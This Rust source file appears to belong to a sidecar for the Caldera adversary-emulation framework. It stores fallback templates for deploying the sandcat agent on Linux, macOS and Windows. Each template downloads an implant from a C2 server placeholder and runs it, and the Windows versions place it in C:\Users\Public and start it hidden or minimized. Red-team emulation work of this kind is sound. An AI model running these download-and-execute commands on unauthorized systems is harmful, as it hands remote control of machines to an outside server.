//! The sidecar's own copies of sandcat's standard deployment commands, used when Caldera does
//! not serve them (the sandcat plugin is not loaded, or Caldera cannot be asked).
//!
//! Written after the "Sandcat" deployment ability of the public mitre/sandcat repository
//! (`data/abilities/command-and-control/2f34977d-9558-4c12-abad-349716777c6b.yml`, the default
//! command of each platform), with the same placeholders, so both sources go through the same
//! rendering. Sandcat has no cmd.exe command; ours downloads with the `curl.exe` that Windows
//! 10 (1803) and later ship, and starts the agent in its own minimized window so it outlives
//! the prompt it was pasted into.

use super::names::{Executor, Platform};

const LINUX_SH: &str = r##"server="#{app.contact.http}";
curl -s -X POST -H "file:sandcat.go" -H "platform:linux" -H "architecture:#{agents.architecture}" $server/file/download > #{agents.implant_name};
chmod +x #{agents.implant_name};
./#{agents.implant_name} -server $server -group red -v
"##;

const DARWIN_SH: &str = r##"server="#{app.contact.http}";
curl -s -X POST -H "file:sandcat.go" -H "platform:darwin" -H "architecture:#{agents.architecture}" $server/file/download > #{agents.implant_name};
chmod +x #{agents.implant_name};
./#{agents.implant_name} -server $server -v
"##;

const WINDOWS_PSH: &str = r##"$server="#{app.contact.http}";
$url="$server/file/download";
$wc=New-Object System.Net.WebClient;
$wc.Headers.add("platform","windows");
$wc.Headers.add("architecture","#{agents.architecture}");
$wc.Headers.add("file","sandcat.go");
$data=$wc.DownloadData($url);
get-process | ? {$_.modules.filename -like "C:\Users\Public\#{agents.implant_name}.exe"} | stop-process -f;
rm -force "C:\Users\Public\#{agents.implant_name}.exe" -ea ignore;
[io.file]::WriteAllBytes("C:\Users\Public\#{agents.implant_name}.exe",$data) | Out-Null;
Start-Process -FilePath C:\Users\Public\#{agents.implant_name}.exe -ArgumentList "-server $server -group red" -WindowStyle hidden;
"##;

const WINDOWS_CMD: &str = r##"curl.exe -s -X POST -H "file:sandcat.go" -H "platform:windows" -H "architecture:#{agents.architecture}" #{app.contact.http}/file/download -o C:\Users\Public\#{agents.implant_name}.exe &&
start "" /min C:\Users\Public\#{agents.implant_name}.exe -server #{app.contact.http} -group red
"##;

/// The built-in template for a platform and shell, if that pair exists.
pub fn builtin(platform: Platform, executor: Executor) -> Option<&'static str> {
    match (platform, executor) {
        (Platform::Linux, Executor::Sh) => Some(LINUX_SH),
        (Platform::Darwin, Executor::Sh) => Some(DARWIN_SH),
        (Platform::Windows, Executor::Psh) => Some(WINDOWS_PSH),
        (Platform::Windows, Executor::Cmd) => Some(WINDOWS_CMD),
        _ => None,
    }
}
